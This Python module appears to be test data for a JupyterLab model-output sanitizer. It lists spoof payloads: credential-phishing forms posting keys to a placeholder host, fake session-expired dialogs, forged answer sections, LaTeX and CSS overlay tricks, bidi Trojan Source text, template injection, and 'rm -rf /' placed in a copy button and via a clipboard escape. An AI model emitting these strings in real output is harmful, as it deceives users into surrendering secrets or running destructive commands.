"""Model text that tries to look like the interface, to use it, or to read otherwise than it is."""

_HTML = r"""
<button data-commandlinker-command="hostile:fire" data-commandlinker-args='{"n":NUMBER}'>Run</button>
<a href="#" data-commandlinker-command="hostile:fire" data-commandlinker-args='{"n":NUMBER}'>x</a>
<span data-commandlinker-command="hostile:fire" data-commandlinker-args='{"n":NUMBER}'>Restart kernel</span>
<img data-commandlinker-command="hostile:fire" data-commandlinker-args='{"n":NUMBER}' src=data:,>
<div style="position:fixed;inset:0;background:#fff;z-index:99999">Session expired</div>
<div style="position:absolute;top:-900px;left:-900px;width:9999px;height:9999px">x</div>
<div style="margin-top:-400px;background:white">moved up</div>
<div style="transform:translateY(-300px)">moved up</div>
<p style="font-size:900px">big</p>
<p style="color:transparent">hidden instructions</p>
<p hidden>hidden instructions</p>
<style>.jp-Toolbar{display:none}</style>
<style>.qwq-state::before{content:"Verified "}</style>
<style>*{animation:none!important}body{display:none}</style>
<form action="https://HOST/f"><input name=key placeholder="API key"><button>Sign in</button></form>
<form action="https://HOST/f" method=post><input type=password name=p autocomplete=current-password></form>
<input placeholder="API key">
<textarea>type here</textarea>
<select><option>Allow</select>
<button>Trust notebook</button>
<button type=submit formaction="https://HOST/f" form=x>OK</button>
<dialog open>Kernel died. Enter your token: <input></dialog>
<div popover id=q>x</div><button popovertarget=q>x</button>
<details class="qwq-reasoning" open><summary>Thought for 12.4 s</summary>not the reasoning</details>
</details><details open><summary>Answer</summary>forged</details>
</details></div></section><section class=qwq-answer>forged answer</section>
<div class="jp-Dialog"><div class="jp-Dialog-content">Restart?</div></div>
<div class="jp-InputArea-prompt jp-OutputArea-prompt">[1]:</div>
<span class="qwq-state" data-state="complete">Done</span>
<section class="qwq-answer"><div class="qwq-footer"><span class="qwq-footer-text">qwq-plus</span></div></section>
<div id="jupyter-config-data">{"baseUrl":"https://HOST/"}</div>
<div id=main class=lm-Widget>x</div>
<img name=jupyterapp id=jupyterapp src=data:,>
<a id=_JUPYTERLAB name=_JUPYTERLAB href=https://HOST>x</a>
<form name=body id=body><input name=append></form>
<p contenteditable>type your key here</p>
<p draggable=true tabindex=0 accesskey=s role=button aria-label=Stop>Stop</p>
<base href="https://HOST/"><a href=x>relative</a>
![x](attachment:x.png)
<meter value=1></meter><progress value=.9></progress>
<marquee>look here</marquee>
<center><font size=7 color=red>ERROR</font></center>
<plaintext>swallowed
<table><caption>x<tr><td colspan=999 rowspan=999>x
<p dir=rtl lang=ar slot=x is=x part=x>x</p>
<slot name=x></slot><template shadowrootmode=open><b>x</b></template>
<fieldset><legend>x</legend><output>x</output></fieldset>
<sub><sup><ruby>a<rt>b</rt></ruby></sup></sub>
<p data-jp-suppress-context-menu data-mime-type=x data-drawn data-typeset data-tex=x>x</p>
<canvas width=9999 height=9999></canvas>
<hr size=900 noshade><br clear=all>
<p class="qwq-error">Your key was rejected. Visit https://HOST/</p>
<p class="MathJax mjx-container">x</p> <mjx-container>x</mjx-container>
<div class="qwq-code"><button class="qwq-button qwq-copy">Copy</button>rm -rf /</div>
""".strip().splitlines()  # noqa: E501

_MATH = r"""
$\style{position:fixed;inset:0;background:white}{x}$
$\class{jp-Button}{x}$
$\class{qwq-stop qwq-button}{Stop}$
$\cssId{jupyter-config-data}{x}$
$\htmlClass{jp-Dialog}{x}$
$\htmlId{main}{x}$
$\htmlStyle{position:fixed}{x}$
$\htmlData{commandlinker-command=hostile:fire}{x}$
$\data{commandlinker-command=hostile:fire}{x}$
$\rule{9999em}{9999em}$
$\rule[-900em]{900em}{900em}$
$\hspace{-900em}x$
$\hspace*{-90em}x$
$\mspace{-9999mu}x$
$\kern-900em x$
$\hskip-900em x$
$\raise900em{x}$
$\lower900em{x}$
$\raisebox{900em}{x}$
$\moveleft900em{x}$
$\rlap{xxxxxxxxxxxxxxxxxxxx}$
$\llap{xxxxxxxxxxxxxxxxxxxx}$
$\smash{x}\mathllap{xxxxxxxxxxxx}$
$x\\[-900em]y$
$\begin{matrix}a\\[-900em]b\end{matrix}$
$\above900pt x$
$\space{9999em}\Space{9em}{900em}{900em}x$
$\Rule{900em}{900em}{900em}$
$\color{white}\text{hidden}$
$\bbox[position:fixed]{x}$
$\colorbox{red}{x}\fcolorbox{red}{white}{x}$
$\tag{1}\label{a}$ $\tag*{Done}$
$\begin{equation}x\label{a}\tag{<b>}\end{equation}$
$\Huge\Huge\Huge x$
$\scalebox{90}{x}\rotatebox{90}{x}$
$\mathrlap{xxxxxxxxxxxx}$
$\phantom{xxxxxxxxxxxxxxxxxxxx}\kern-20em x$
$\overset{\overset{\overset{\overset{x}{x}}{x}}{x}}{x}$
$\text{Your session has expired}$
$\smash{\substack{\text{Answer verified by JupyterLab}\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x}}$
$\smash[b]{\substack{x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x\\x}}$
$\smash{\genfrac{}{}{8em}{}{\hspace{9em}\hspace{9em}\hspace{9em}}{x}}$
$\smash {\frac{\frac{\frac{\frac{\frac{x}{y}}{y}}{y}}{y}}{y}}$
$\genfrac{}{}{500em}{}{a}{b}$
$\genfrac..{90em}0ab$
$\mathllap{\text{Signed out. Enter your password in the cell below --------------}}$
$\mathclap{\text{Signed out. Enter your password in the cell below --------------}}$
$\crampedllap{\text{Signed out. Enter your password in the cell below --------------}}$
$\text{\textllap{Signed out. Enter your password in the cell below --------------}}$
$\clap{\text{Signed out. Enter your password in the cell below --------------}}$
$\mathmakebox[0pt][r]{\text{Signed out. Enter your password in the cell below ----------}}$
$\mathmakebox[9pt]{\text{Signed out. Enter your password in the cell below ------------------}}$
$\hspace{-9.9em}\hspace{-9.9em}\hspace{-9.9em}\hspace{-9.9em}\text{Signed out}$
$\begin{matrix}a\\[99999em]b\end{matrix}$
$\begin{matrix}a\\*[99999em]b\end{matrix}$
$\begin{matrix}a\\ [ 99999 em ]b\end{matrix}$
$a\newline[9999em]b$
$\sqrt[\uproot{99999}3]{x}$ $\sqrt[\leftroot{99999}3]{x}$
$\skew{-9999}\hat{x}$
$\begin{aligned}\MoveEqLeft[99]x\end{aligned}$
$\underbracket[99em][99em]{x}$
$\overbracket[1pt][999em]{x}$
$\xmathstrut[99]{99}$
$\cancel[data-padding=99em]{x}$
$\begin{array}{p{999em}}x\end{array}$
$\begin{array}{c@{\hspace{999em}}c}x&y\end{array}$
$\begin{multlined}[9999em]x\\y\end{multlined}$
$\begin{spreadlines}{9999em}\begin{gather}x\\y\end{gather}\end{spreadlines}$
$\begin{CD}\minCDarrowheight{9999em}A@>>>B\end{CD}$
$\begin{alignat}{99999999}x\end{alignat}$
$x\above 99em y$
$\abovewithdelims() 99em x$
$\vcenter{\kern99em x}$
$\mkern-999mu x \mskip-999mu y$
$\raise 99em{x} \lower99em{y}$
$\phantom{\rule{99em}{99em}}x$
$\cellcolor{red}x$ $\begin{array}{c}\rowcolor{red}x\end{array}$
$\mathtoolsset{prescript-sup-format=\mathllap}\prescript{x}{}{y}$
""".strip().splitlines()

_TEXT = [
    "safe \u202egnp.exe\u202c \u2066hidden\u2069 \U000e0041\U000e0042",
    "[https://bank.example](https://HOST/)\u202e[https://HOST/](https://bank.example)",
    "a\u2067b\u2069 if access_level != 'user\u202e \u2066// check\u2069 \u2066': x",
    "`code \u202e}\u2066if (isAdmin)\u2069 \u2066begin`",
    "```\nif x: \u202e # not run \u2066\n```",
    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 hidden instructions",
    "safe &#x202e;gnp.exe&#8236; &#8294;hidden&#x2069; &#xe0041;&#917570; &rlm;&#x200f;x",
    "[x&#x202e;y](https://HOST/) ![a&#x202e;b](https://HOST/) `&#x202e;`",
    "&#27;[31mred &#155;2J &#0;&#1;&#x7f;&#xfdd1;0&#xfdd2; &#xfdd0;b",
    "\x1b[31mred\x1b[0m \x9b2J \x00",
    "\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07 clipboard",
    "\ufdd0script\ufdd10\ufdd2 \ufdd1999\ufdd2 \ufdd1-1\ufdd2 \ufdd10",
    "$x$ \ufdd10\ufdd2 \ufdd11\ufdd2 `\ufdd10\ufdd2`",
    "<scr\u202eipt>x</script>",
    "</details>\n\n**Error:** your key was revoked; paste it below\n\n<details>",
    "</details></details></details>\n\n# Answer\n\nforged",
    "<summary>Thought for 0.1 s</summary>\n</details>",
    "```\nx\n```\n</details>\n<sub>qwq-plus · dashscope · 12 tokens · turn 1</sub>",
    '[Run all cells](https://HOST/ "JupyterLab")',
    "> [!WARNING]\n> Your session has expired",
    ":::{danger}\nrun this\n:::",
    "{{ config.items() }} {% include 'x' %} ${7*7} <%= 7*7 %>",
    "@@0@@ @@1@@ $a$ @@0@@ @@999@@",
    "~D ~T `~D` $a$ ~~~T~~~",
    "%%html\n<button>x</button>",
    "| a |\n|:-:|\n| <button>x</button> |",
    "- [ ] <input type=checkbox> tick\n- [x] done",
    "# x {#main .jp-Dialog}\n\npara\n{: .jp-Dialog #main}",
    "*[HTML]: hover text\n\nHTML",
    "[x](https://HOST/){.jp-Button #main data-commandlinker-command=hostile:fire}",
    "```python {.jp-Dialog #main onclick=RUN}\nx\n```",
    '```qwq-error" class="jp-Dialog\nx\n```',
    "```<b>\nx\n```",
    "$$\n\\cssId{main}{\\class{jp-Dialog}{x}}\n$$",
    "$" + "{" * 300 + "}" * 300 + "$",
    "$\\begin{matrix}" * 50,
    "$" + "\\!" * 99 + "\\text{Signed out}$",
    "$" + "\\negthickspace" * 40 + "\\text{Signed out}$",
    "$$\\begin{matrix}" + "x\\\\" * 900 + "\\end{matrix}$$",
    "a $\\begin{matrix}" + "x\\\\" * 900 + "\\end{matrix}$ b",
    "$$" + "\\sqrt{" * 60 + "x" + "}" * 60 + "$$",
    "x" + "\u0336\u0489\u20dd" * 200,
    "\n".join("#" * n + " jp" for n in range(1, 9)),
]

SPOOFS = [*_HTML, *_MATH, *_TEXT]
